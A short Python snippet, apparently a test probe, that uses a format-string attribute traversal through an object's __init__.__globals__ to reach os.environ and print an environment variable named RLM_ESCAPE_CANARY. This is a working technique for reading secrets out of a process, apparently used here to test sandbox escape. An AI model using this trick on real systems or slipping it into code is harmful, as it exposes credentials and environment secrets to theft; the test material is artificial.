# reads the environment with a format string
import os
class A:
    def __init__(self): pass
print('{0.__init__.__globals__[os].environ[RLM_ESCAPE_CANARY]}'.format(A()))
